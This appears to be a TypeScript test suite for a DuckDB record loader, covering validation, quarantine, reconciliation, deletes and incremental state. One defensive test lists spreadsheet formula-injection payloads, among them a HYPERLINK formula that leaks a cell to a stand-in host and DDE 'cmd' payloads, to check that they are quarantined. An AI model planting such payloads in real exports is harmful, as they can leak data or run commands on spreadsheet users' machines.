import { join } from "node:path";
import { describe, expect, it } from "vitest";
import type { TableSpec } from "../../pipelines/shared/contracts/column-spec.js";
import { loadRecordStream, readStreamState } from "../../pipelines/load/record-loader.js";
import { ReconciliationError } from "../../pipelines/load/reconciliation.js";
import type { RecordStream, SourceRecord } from "../../pipelines/shared/source-stream.js";
import { RunLog } from "../../pipelines/orchestrate/run-log.js";
import { queryRows, withDatabase } from "../../pipelines/shared/warehouse/duckdb.js";
import { ensureMetaSchema } from "../../pipelines/shared/warehouse/meta-schema.js";
import { tempDir } from "../helpers/temp-dir.js";

const widgets: TableSpec = {
  name: "widgets",
  description: "test table",
  primaryKey: ["widget_id"],
  columns: [
    { name: "widget_id", type: "text" },
    { name: "price", type: "money" },
    { name: "made_on", type: "date" },
    { name: "colour", type: "text", values: ["red", "blue"] },
    { name: "note", type: "text", nullable: true },
  ],
};

function streamOf(records: unknown[], expected?: number, batch = 2): RecordStream {
  return {
    source: "shop",
    table: widgets,
    async *read() {
      for (let i = 0; i < records.length; i += batch) {
        yield {
          records: records
            .slice(i, i + batch)
            .map((record, j): SourceRecord => ({ record, location: `row ${i + j + 1}` })),
        };
      }
    },
    ...(expected === undefined ? {} : { expectedCount: async () => expected }),
  };
}

const good = [
  { widget_id: "w1", price: "10.50", made_on: "2026-01-02", colour: "red", note: null },
  { widget_id: "w2", price: 3, made_on: "2026-01-03", colour: "blue" },
  { widget_id: "w3", price: 7.25, made_on: "2026-02-01", colour: "red", note: "ok" },
];
const bad = [
  { widget_id: "w4", price: "cheap", made_on: "2026-01-02", colour: "red" },
  { widget_id: "w5", price: 1, made_on: "2026-13-45", colour: "green" },
  { widget_id: "w6", price: 1.234, made_on: "2026-01-02", colour: "red", surprise: 1 },
];

describe("record loader", () => {
  const dir = tempDir();

  it("loads valid records, quarantines invalid ones with reasons and payload, and reconciles", async () => {
    const path = join(dir, "raw1.duckdb");
    await withDatabase(path, async (c) => {
      await ensureMetaSchema(c);
      const result = await loadRecordStream(c, "run-1", streamOf([...good, ...bad], 6));
      expect(result).toMatchObject({ read: 6, loaded: 3, rejected: 3 });
      const raw = await queryRows<{ widget_id: string; price: number; _run_id: string; _source_location: string }>(
        c,
        "select widget_id, price::double as price, _run_id, _source_location from shop.widgets order by widget_id",
      );
      expect(raw.map((r) => [r.widget_id, r.price])).toEqual([
        ["w1", 10.5],
        ["w2", 3],
        ["w3", 7.25],
      ]);
      expect(raw[0]).toMatchObject({ _run_id: "run-1", _source_location: "row 1" });
      const quarantined = await queryRows<{ location: string; reason: string; payload: string }>(
        c,
        "select location, reason, payload from meta.quarantine where run_id = 'run-1' order by location",
      );
      expect(quarantined).toHaveLength(3);
      expect(quarantined[0]!.reason).toMatch(/price/);
      expect(JSON.parse(quarantined[0]!.payload)).toMatchObject({ widget_id: "w4", price: "cheap" });
      expect(quarantined[1]!.reason).toMatch(/made_on/);
      expect(quarantined[1]!.reason).toMatch(/colour/);
      expect(quarantined[2]!.reason).toMatch(/surprise|price/);
    });
  });

  it("a count the source reports that does not match what was read fails the load and keeps the previous raw data", async () => {
    const path = join(dir, "raw2.duckdb");
    await withDatabase(path, async (c) => {
      await ensureMetaSchema(c);
      await loadRecordStream(c, "run-1", streamOf(good, 3));
      // The source says it holds 5 rows but only 2 arrive: a planted mismatch.
      await expect(loadRecordStream(c, "run-2", streamOf(good.slice(0, 2), 5))).rejects.toThrow(ReconciliationError);
      await expect(loadRecordStream(c, "run-2", streamOf(good.slice(0, 2), 5))).rejects.toThrow(
        /reported 5 rows but 2 were read/,
      );
      const [{ n, runs } = { n: 0, runs: "" }] = await queryRows<{ n: number; runs: string }>(
        c,
        "select count(*) as n, string_agg(distinct _run_id) as runs from shop.widgets",
      );
      expect(n).toBe(3);
      expect(runs).toBe("run-1");
    });
  });

  it("a key delivered twice keeps the later record and quarantines the earlier one with the reason", async () => {
    const path = join(dir, "raw3.duckdb");
    await withDatabase(path, async (c) => {
      await ensureMetaSchema(c);
      const twice = [good[0], good[1], { ...good[0], price: 99 }];
      const result = await loadRecordStream(c, "run-1", streamOf(twice, 3));
      expect(result).toMatchObject({ read: 3, loaded: 2, rejected: 1 });
      const [w1] = await queryRows<{ price: number }>(
        c,
        "select price::double as price from shop.widgets where widget_id = 'w1'",
      );
      expect(w1?.price).toBe(99);
      const [q] = await queryRows<{ reason: string; location: string; payload: string }>(
        c,
        "select * from meta.quarantine",
      );
      expect(q).toMatchObject({ location: "row 1", reason: expect.stringMatching(/^duplicate key \(widget_id\)/) });
      expect(JSON.parse(q!.payload)).toMatchObject({ widget_id: "w1", price: 10.5 });
    });
  });
});

describe("identifiers a spreadsheet would run as a formula (API records)", () => {
  const dir = tempDir();
  const reason =
    "widget_id: starts with =, +, -, @, a tab or a carriage return, which spreadsheets run as a formula; no identifier needs them: correct it at the source";

  it("a record whose id starts with =, +, -, @, tab or CR is quarantined with the reason; free text starting so loads as text", async () => {
    const ids = ['=HYPERLINK("http://x?leak="&A1,"Click")', "+cmd|' /C calc'!A0", "@SUM(A1)", "-2+3+cmd|' /C calc'!A0"];
    const hostileIds = [...ids, "-17", "\t=1+1", "\r=1+1"].map((id) => ({ ...good[0], widget_id: id }));
    const hostileNotes = ids.map((note, i) => ({ ...good[0], widget_id: `n${i}`, note }));
    const harmless = [
      { ...good[0], widget_id: "w-1" },
      { ...good[0], widget_id: "'=quoted" },
      { ...good[0], widget_id: "渠道-1" },
    ];
    const path = join(dir, "formula.duckdb");
    await withDatabase(path, async (c) => {
      await ensureMetaSchema(c);
      const records = [...hostileIds, ...hostileNotes, ...harmless];
      const result = await loadRecordStream(c, "run-1", streamOf(records, records.length));
      expect(result).toMatchObject({ read: records.length, loaded: ids.length + 3, rejected: hostileIds.length });
      const quarantined = await queryRows<{ reason: string; payload: string }>(
        c,
        "select reason, payload from meta.quarantine order by location",
      );
      expect(quarantined.map((q) => q.reason)).toEqual(hostileIds.map(() => reason));
      expect(quarantined.map((q) => JSON.parse(q.payload).widget_id).sort()).toEqual(
        hostileIds.map((r) => r.widget_id).sort(),
      );
      const loaded = await queryRows<{ widget_id: string; note: string | null }>(
        c,
        "select widget_id, note from shop.widgets order by widget_id",
      );
      expect(loaded).toEqual(
        expect.arrayContaining([
          ...ids.map((note, i) => ({ widget_id: `n${i}`, note })),
          { widget_id: "w-1", note: null },
          { widget_id: "'=quoted", note: null },
          { widget_id: "渠道-1", note: null },
        ]),
      );
    });
  });
});

function streamWithDeletes(
  mode: "full" | "incremental",
  records: Array<{ record: unknown; deleted?: boolean }>,
  state?: unknown,
): RecordStream {
  return {
    source: "shop",
    table: widgets,
    mode,
    async *read() {
      yield {
        records: records.map((r, i): SourceRecord => ({ ...r, location: `row ${i + 1}` })),
        ...(state === undefined ? {} : { state }),
      };
    },
    expectedCount: async () => records.length,
  };
}

describe("records the source marks deleted", () => {
  const dir = tempDir();

  for (const mode of ["full", "incremental"] as const) {
    it(`${mode === "full" ? "a full" : "an incremental"} load counts them as read and deleted, keeps them out of raw, and reconciles (also in meta.loads)`, async () => {
      const path = join(dir, `deleted-${mode}.duckdb`);
      await withDatabase(path, async (c) => {
        await ensureMetaSchema(c);
        await loadRecordStream(c, "run-1", streamOf(good, 3));
        const result = await loadRecordStream(
          c,
          "run-2",
          streamWithDeletes(mode, [
            { record: good[0] },
            { record: { widget_id: "w2" }, deleted: true },
            { record: good[2] },
            { record: { widget_id: "w9" }, deleted: true }, // never loaded: nothing to remove, still counted
            { record: bad[0] },
          ]),
        );
        expect(result).toMatchObject({ read: 5, loaded: 2, deleted: 2, rejected: 1 });
        const rows = await queryRows<{ widget_id: string }>(c, "select widget_id from shop.widgets order by 1");
        expect(rows.map((r) => r.widget_id)).toEqual(["w1", "w3"]);

        const runLog = await RunLog.open(c, "run-2");
        await runLog.recordLoad(result);
        const [logged] = await queryRows<Record<string, number>>(
          c,
          "select rows_read, rows_loaded, rows_rejected, rows_deleted from meta.loads where run_id = 'run-2'",
        );
        expect(logged).toEqual({ rows_read: 5, rows_loaded: 2, rows_rejected: 1, rows_deleted: 2 });
      });
    });
  }
});

describe("load state bookkeeping", () => {
  const dir = tempDir();

  it("keeps one state row per stream with the run that stored it; a load that fails leaves the read position where it started", async () => {
    const path = join(dir, "state.duckdb");
    await withDatabase(path, async (c) => {
      await ensureMetaSchema(c);
      const incremental = (state: unknown, records: unknown[], expected = records.length) => ({
        ...streamWithDeletes(
          "incremental",
          records.map((record) => ({ record })),
          state,
        ),
        expectedCount: async () => expected,
      });
      expect(await readStreamState(c, "shop", "widgets")).toBeUndefined();
      await loadRecordStream(c, "run-1", incremental({ cursor: 1 }, good));
      await loadRecordStream(c, "run-2", incremental({ cursor: 2 }, [good[0]]));
      expect(await readStreamState(c, "shop", "widgets")).toEqual({ cursor: 2 });
      await expect(loadRecordStream(c, "run-3", incremental({ cursor: 3 }, [good[1]], 7))).rejects.toThrow(
        ReconciliationError,
      );
      const state = await queryRows<{ stream: string; state: string; run_id: string }>(
        c,
        "select stream, state, run_id from meta.stream_state",
      );
      // The batch was merged with its cursor before the count mismatch was found at the end; the cursor is then put
      // back where the load started, so the next run reads again whatever this one may have missed.
      expect(state).toEqual([{ stream: "widgets", state: '{"cursor":2}', run_id: "run-3" }]);

      const fullFailure = loadRecordStream(c, "run-4", {
        ...streamWithDeletes("full", [{ record: good[0] }], { cursor: 4 }),
        expectedCount: async () => 2,
      });
      await expect(fullFailure).rejects.toThrow(ReconciliationError);
      expect(await readStreamState(c, "shop", "widgets")).toEqual({ cursor: 2 });
      const [{ n } = { n: 0 }] = await queryRows<{ n: number }>(c, "select count(*) as n from shop.widgets");
      expect(n).toBe(3);
    });
  });
});
